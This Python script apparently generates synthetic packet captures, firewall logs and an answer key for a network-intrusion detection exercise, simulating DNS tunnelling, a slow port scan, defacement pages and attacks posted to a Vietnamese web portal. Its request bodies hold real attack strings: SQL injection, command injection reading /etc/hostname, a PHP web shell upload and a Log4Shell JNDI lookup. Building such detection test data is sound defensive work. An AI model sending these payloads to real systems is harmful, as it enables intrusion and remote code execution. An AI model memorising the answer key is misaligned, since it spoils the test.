"""Further captures and packet logs: tunnels in short names, attacks in posted forms, scans that take their time."""
import base64

from auth import Syslog
from captures import PORTAL, RESOLVER, ordinary, request, response
from common import after, at
from firewall import ordinary as ordinary_packets, packet
from wire import Capture


def tunnels(answers):
    capture = Capture("attacks/dns-tunnel-short.pcap")
    ordinary(capture, 5, 20)
    pick = capture.random
    moment = first = at(5, 3, 0)
    for number in range(260):
        capture.dns(moment, "10.20.3.21", RESOLVER, base64.b32encode(pick.randbytes(12)).decode().lower().rstrip("=") + ".example.net",
                    1, b"\x0a\x01\x02\x03")
        last, moment = moment, after(moment, 0.9)
    answers.add(capture.path, "dns_tunnel_short_names", "10.20.3.21", first, last)

    moment = first = at(5, 20, 0)
    for number in range(30):
        capture.dns(moment, "10.20.3.22", RESOLVER, "dnscat." + pick.randbytes(9).hex(), 15, b"\x00\x0a\x01x\x00")
        last, moment = moment, after(moment, 2)
    answers.add(capture.path, "dns_dnscat", "10.20.3.22", first, last)
    capture.write()


def posted(answers):
    """What is posted stands in no access log."""
    capture = Capture("attacks/posted-forms.pcap")
    ordinary(capture, 7, 30)

    def attack(rule, address, moment, requests):
        first = after(moment, 0.06)
        for data in requests:
            sent = after(moment, 0.06)
            capture.dialogue(moment, address, PORTAL, 80, [(True, data), (False, response())])
            moment = after(moment, 7)
        answers.add(capture.path, rule, address, first, sent)

    attack("1:9000009", "203.0.113.191", at(7, 5, 0), [
        request("/dang-nhap", method="POST", body=b"ten=admin'+OR+'1'%3D'1'--+-&mat_khau=x")])
    attack("1:9000010", "203.0.113.192", at(7, 15, 0), [
        request("/cong-cu/ping", method="POST", body=b"may=127.0.0.1%3Bcat+%2Fetc%2Fhostname"),
        request("/cong-cu/ping", method="POST", body=b"may=127.0.0.1%7Cid")])
    form = (b'--x\r\nContent-Disposition: form-data; name="tep"; filename="anh.php"\r\nContent-Type: image/jpeg\r\n\r\n'
            b'<?php system($_GET["lenh"]); ?>\r\n--x--\r\n')
    attack("1:9000011", "203.0.113.193", at(7, 25, 0), [request("/tai-len", method="POST", body=form)])
    attack("1:9000012", "203.0.113.194", at(7, 35, 0), [request("/", headers=["X-Api-Version: ${${lower:j}ndi:ldap://203.0.113.194/a}"])])
    capture.write()


def defaced(kind, page):
    """A start page, asked for by visitors."""
    capture = Capture("1:9000015.%s.pcap" % kind)
    for number in range(3):
        capture.dialogue(after(at(11, 20), 9 * number), "198.51.100.%d" % (20 + number), PORTAL, 80,
                         [(True, request("/")), (False, response(body=page))])
    capture.write()


def slow_scan(answers):
    log = Syslog("attacks/firewall-02.log", "fw-02")
    ordinary_packets(log, 60, 80)
    moment = first = at(8, 0, 3)
    for port in range(8000, 8060):
        packet(log, moment, "203.0.113.195", "10.20.0.20", port)
        last, moment = moment, after(moment, 70)
    answers.add(log.path, "port_scan_slow", "203.0.113.195", first, last)
    log.write()


def make(answers):
    tunnels(answers)
    posted(answers)
    slow_scan(answers)
    defaced("hit", b"<html><title>HACKED</title><body bgcolor=black><h1>Hacked by Bong Dem</h1></body></html>")
    defaced("miss", b"<html><title>Tin t\xe1\xbb\xa9c</title><body><h1>A bank's site was hacked by a gang</h1>"
            b"<p>It was <b>not</b> defaced by anybody here.</p></body></html>")
